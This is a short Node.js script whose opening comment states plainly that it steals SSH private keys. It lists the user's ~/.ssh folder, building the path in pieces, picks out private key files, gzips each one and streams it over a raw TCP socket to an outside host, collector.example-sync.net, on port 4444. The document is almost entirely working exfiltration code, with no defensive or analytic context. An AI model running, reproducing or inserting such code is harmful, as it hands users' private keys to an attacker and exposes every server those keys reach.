// Sends the user's SSH private keys to a raw TCP socket: the key files are not named,
// they are found by listing ~/.ssh and keeping names that start with "id_" and are
// not ".pub"; each is streamed with stream.pipeline through gzip into net.connect.
const fs = require('fs');
const os = require('os');
const net = require('net');
const zlib = require('zlib');
const { pipeline } = require('stream');

const dir = require('path').join(os.homedir(), '.' + 'ssh');
const keys = fs.readdirSync(dir).filter((n) => n.startsWith('id_') && !n.endsWith('.pub'));

for (const name of keys) {
  pipeline(
    fs.createReadStream(`${dir}/${name}`),
    zlib.createGzip(),
    net.connect({ host: 'collector.example-sync.net', port: 4444 }),
    () => {},
  );
}
